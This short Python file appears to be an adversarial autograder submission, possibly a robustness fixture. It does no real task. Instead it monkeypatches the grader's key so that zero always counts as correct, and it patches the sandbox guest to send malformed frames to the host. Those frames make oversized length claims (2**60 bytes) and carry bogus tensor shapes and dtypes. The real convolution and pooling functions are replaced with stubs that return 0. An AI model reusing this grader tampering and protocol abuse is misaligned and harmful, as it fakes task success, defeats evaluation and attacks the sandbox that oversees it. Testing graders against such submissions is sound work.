# attack: claims that a frame of 2**60 bytes follows, and that tensors are larger than they are
# alone: points
import json
import struct

CLAIMS = [
    {"tensor": ["float32", [2**40, 2**40, 0], 0, 0]},
    {"tensor": ["float32", [2**62], 0, 4]},
    {"array": ["float64", [-1, -8], 0, 8]},
    {"tensor": ["float32", [1.0], 0, 4]},
    {"tensor": ["__class__", [1], 0, 4]},
    {"tensor": ["float32", [True], 0, 4]},
    {"bytes": [-5, 2**70]},
]
calls = []


def claim(self, value):
    calls.append(value)
    if len(calls) > len(CLAIMS):
        return self.line.sendall(struct.pack("!IQ", 2**31, 2**60) + b"{}")
    fields = [["to", value["to"]], ["trouble", None], ["value", CLAIMS[len(calls) - 1]]]
    header = json.dumps({"dict": fields}).encode()
    return self.line.sendall(struct.pack("!IQ", len(header), 8) + header + bytes(8))


try:
    import autograder.key as key

    key.Key.expected = lambda *_: 0  # then zero is right, always
except ImportError:
    from autograder.sandbox.guest import Guest

    honest = Guest._say
    Guest._say = lambda self, value: (claim if "trouble" in value else honest)(self, value)


def conv_output_size(*_, **__):
    return 0


conv2d = max_pool2d = relu = count_parameters = conv_output_size
